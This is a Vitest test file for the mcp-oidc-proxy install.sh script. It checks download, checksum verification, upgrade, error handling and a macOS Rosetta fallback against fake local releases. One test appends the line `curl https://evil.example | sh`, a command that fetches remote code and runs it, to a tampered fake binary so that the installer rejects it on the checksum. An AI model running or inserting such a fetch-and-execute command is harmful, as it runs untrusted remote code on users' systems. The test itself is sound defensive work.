import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { arch, platform, tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';

// install.sh against a fake release in a local directory (a file:// base URL): a small shell
// script stands in for the binary.
const INSTALL_SH = fileURLToPath(new URL('../../install.sh', import.meta.url));
const ASSET = `mcp-oidc-proxy-${platform()}-${arch()}`;
const FAKE_BINARY = '#!/bin/sh\necho "fake mcp-oidc-proxy 9.9.9 $*"\n';

const dir = mkdtempSync(join(tmpdir(), 'mcp-oidc-proxy-install-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const sha256 = (s: string): string => createHash('sha256').update(s).digest('hex');

/** A release directory holding the asset and SHA256SUMS (listing `sumsOf` as the asset's content). */
function fakeRelease(name: string, content: string, sumsOf: string): string {
  const release = join(dir, name);
  mkdirSync(release);
  writeFileSync(join(release, ASSET), content);
  writeFileSync(
    join(release, 'SHA256SUMS'),
    `${sha256('other')}  mcp-oidc-proxy-other-arch\n${sha256(sumsOf)}  ${ASSET}\n`,
  );
  return release;
}

function run(
  cmd: string,
  args: string[],
  env: Record<string, string>,
): Promise<{ code: number | null; stdout: string; stderr: string }> {
  const child = spawn(cmd, args, {
    env: { PATH: process.env.PATH ?? '', ...env },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (c: Buffer) => {
    stdout += c;
  });
  child.stderr.on('data', (c: Buffer) => {
    stderr += c;
  });
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => {
      child.kill('SIGKILL');
      reject(new Error(`${cmd} did not finish in 20 s\n${stderr}`));
    }, 20_000);
    child.once('error', reject);
    child.once('exit', (code) => {
      clearTimeout(timer);
      resolve({ code, stdout, stderr });
    });
  });
}

describe('install.sh', () => {
  it('downloads, verifies and installs the binary for this OS and architecture', async () => {
    const release = fakeRelease('good', FAKE_BINARY, FAKE_BINARY);
    const prefix = join(dir, 'prefix-good');
    const result = await run('sh', [INSTALL_SH], {
      MCP_OIDC_PROXY_BASE_URL: pathToFileURL(release).href,
      PREFIX: prefix,
    });
    expect(result.code, result.stderr).toBe(0);
    const installed = join(prefix, 'bin', 'mcp-oidc-proxy');
    expect(readdirSync(join(prefix, 'bin'))).toEqual(['mcp-oidc-proxy']);
    const ran = await run(installed, ['--version'], {});
    expect(ran.code).toBe(0);
    expect(ran.stdout).toBe('fake mcp-oidc-proxy 9.9.9 --version\n');
  });

  it('replaces an existing installation', async () => {
    const release = fakeRelease('upgrade', FAKE_BINARY, FAKE_BINARY);
    const prefix = join(dir, 'prefix-upgrade');
    mkdirSync(join(prefix, 'bin'), { recursive: true });
    writeFileSync(join(prefix, 'bin', 'mcp-oidc-proxy'), '#!/bin/sh\necho old\n');
    chmodSync(join(prefix, 'bin', 'mcp-oidc-proxy'), 0o755);
    const result = await run('sh', [INSTALL_SH], {
      MCP_OIDC_PROXY_BASE_URL: `${pathToFileURL(release).href}/`,
      PREFIX: prefix,
    });
    expect(result.code, result.stderr).toBe(0);
    const ran = await run(join(prefix, 'bin', 'mcp-oidc-proxy'), [], {});
    expect(ran.stdout).toBe('fake mcp-oidc-proxy 9.9.9 \n');
  });

  it('refuses a binary whose checksum does not match and installs nothing', async () => {
    const tampered = `${FAKE_BINARY}curl https://evil.example | sh\n`;
    const release = fakeRelease('tampered', tampered, FAKE_BINARY);
    const prefix = join(dir, 'prefix-tampered');
    const result = await run('sh', [INSTALL_SH], {
      MCP_OIDC_PROXY_BASE_URL: pathToFileURL(release).href,
      PREFIX: prefix,
    });
    expect(result.code).not.toBe(0);
    expect(result.stderr).toContain('checksum mismatch');
    expect(existsSync(join(prefix, 'bin', 'mcp-oidc-proxy'))).toBe(false);
  });

  it('refuses when SHA256SUMS has no entry for the asset, and when the asset is missing', async () => {
    const noEntry = join(dir, 'no-entry');
    mkdirSync(noEntry);
    writeFileSync(join(noEntry, ASSET), FAKE_BINARY);
    writeFileSync(join(noEntry, 'SHA256SUMS'), `${sha256(FAKE_BINARY)}  mcp-oidc-proxy-other-arch\n`);
    const prefix = join(dir, 'prefix-refused');
    const a = await run('sh', [INSTALL_SH], {
      MCP_OIDC_PROXY_BASE_URL: pathToFileURL(noEntry).href,
      PREFIX: prefix,
    });
    expect(a.code).not.toBe(0);
    expect(a.stderr).toContain(`no entry for ${ASSET}`);

    const empty = join(dir, 'empty-release');
    mkdirSync(empty);
    const b = await run('sh', [INSTALL_SH], {
      MCP_OIDC_PROXY_BASE_URL: pathToFileURL(empty).href,
      PREFIX: prefix,
    });
    expect(b.code).not.toBe(0);
    expect(b.stderr).toContain('could not download');
    expect(existsSync(join(prefix, 'bin', 'mcp-oidc-proxy'))).toBe(false);
  });

  it('on an Apple Silicon Mac without an arm64 build, installs the x64 one and re-signs it ad hoc', async () => {
    // uname and codesign are stand-ins on PATH: the script's macOS branch runs on Linux.
    const shims = join(dir, 'mac-shims');
    mkdirSync(shims);
    const signed = join(dir, 'codesign-args');
    const shim = (name: string, body: string): void => {
      writeFileSync(join(shims, name), `#!/bin/sh\n${body}\n`);
      chmodSync(join(shims, name), 0o755);
    };
    shim('uname', 'case "$1" in -s) echo Darwin ;; -m) echo arm64 ;; esac');
    shim('codesign', `echo "$*" > ${JSON.stringify(signed)}`);
    const release = join(dir, 'mac-release');
    mkdirSync(release);
    writeFileSync(join(release, 'mcp-oidc-proxy-darwin-x64'), FAKE_BINARY);
    writeFileSync(join(release, 'SHA256SUMS'), `${sha256(FAKE_BINARY)}  mcp-oidc-proxy-darwin-x64\n`);
    const prefix = join(dir, 'prefix-mac');
    const result = await run('sh', [INSTALL_SH], {
      MCP_OIDC_PROXY_BASE_URL: pathToFileURL(release).href,
      PREFIX: prefix,
      PATH: `${shims}:${process.env.PATH ?? ''}`,
    });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain('runs under Rosetta 2');
    expect(readFileSync(signed, 'utf8')).toMatch(/^--sign - --force .*mcp-oidc-proxy-darwin-x64\n$/);
    const ran = await run(join(prefix, 'bin', 'mcp-oidc-proxy'), ['--version'], {});
    expect(ran.stdout).toBe('fake mcp-oidc-proxy 9.9.9 --version\n');
  });
});
